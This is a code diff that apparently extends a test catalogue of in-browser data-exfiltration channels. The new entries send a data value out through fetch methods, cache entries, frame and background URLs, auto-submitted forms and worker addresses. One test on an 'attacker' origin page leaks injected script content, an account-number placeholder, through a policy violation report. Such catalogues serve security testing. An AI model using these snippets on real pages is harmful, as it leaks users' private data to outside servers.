@@ -54,6 +54,15 @@ const WAYS = {
   worklet: 'await new AudioContext().audioWorklet.addModule(U)',
   ping: "make('a', { href: '#there', ping: U }).click()",
   'saving-link': "make('a', { href: U, download: 'notes.txt' }).click()",
+  'fetch-method': "await fetch('http://inner.' + location.host + '/r', { method: 'X' + D.replace(/ /g, '') })",
+  cache: "await (await caches.open('x')).add(U)",
+  'background-attribute': "make('table', {}).setAttribute('background', U)",
+  'frame-of-a-set':
+    "const set = document.createElement('frameset'), f = document.createElement('frame'); set.append(f); document.body.replaceWith(set); f.src = U",
+  'form-filled-as-it-goes':
+    "const f = make('form', { action: '/r', method: 'post' }); f.innerHTML = '<input name=d>'; f.onsubmit = () => { f.d.value = D; }; f.requestSubmit()",
+  'worker-address': "new Worker('/w.js?d=' + E)",
+  'shared-worker-address': "new SharedWorker('/w.js?d=' + E)",
   cookie: "document.cookie = 'd=' + E + ';path=/'; await fetch('/r')",
 };
 
@@ -77,6 +86,19 @@ const byPages = Object.entries(BY_PAGES).map(([how, code]) => ({
   },
 }));
 
+/** A page whose policy runs no script has the browser tell its server how each began. */
+const byReport = {
+  id: 'own-policy-report',
+  group: 6,
+  async does({ hands, filled }) {
+    await hands.goto(urlOf('attacker', '/policed'));
+    await filled.run(
+      "document.body.append(Object.assign(document.createElement('script'), { textContent: '{account number}' })); 0",
+    );
+    await hands.wait(1_000);
+  },
+};
+
 export const ownPage = Object.entries(WAYS)
   .map(([id, code]) => ({
     id: `own-${id}`,
@@ -87,4 +109,4 @@ export const ownPage = Object.entries(WAYS)
       await hands.wait(1_000);
     },
   }))
-  .concat(byPages);
+  .concat(byPages, byReport);
